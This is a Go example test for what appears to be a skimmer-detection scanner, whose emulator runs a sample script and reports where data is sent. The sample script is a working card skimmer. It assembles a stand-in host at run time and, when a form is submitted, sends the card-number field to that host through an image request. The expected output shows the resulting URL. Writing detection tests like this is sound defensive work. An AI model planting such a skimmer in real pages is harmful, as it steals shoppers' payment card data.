package emulate_test

import (
	"context"
	"fmt"
	"time"

	"github.com/shieldscan/shieldscan/scanner/emulate"
)

// A skimmer that assembles its host at run time. (The program that calls
// Run must hand over to ChildMain in main when IsChild; this package's
// TestMain does.)
func ExampleRun() {
	script := []byte(`
		var h = ["collect", "skim", "example"].join(".");
		document.forms[0].addEventListener("submit", function () {
			new Image().src = "https://" + h + "/p?c=" + document.getElementById("cc_number").value;
		});`)
	res, err := emulate.Run(context.Background(), script, emulate.Options{Timeout: 10 * time.Second})
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, e := range res.Events {
		fmt.Println(e.Profile, e.Sink, e.Value)
	}
	for _, c := range emulate.Candidates(res.Events) {
		fmt.Println("host:", c.Host)
	}
	fmt.Println("budget:", res.Budget)
	// Output:
	// browser Image.src https://collect.skim.example/p?c=4556737586899855
	// host: collect.skim.example
	// budget: <nil>
}
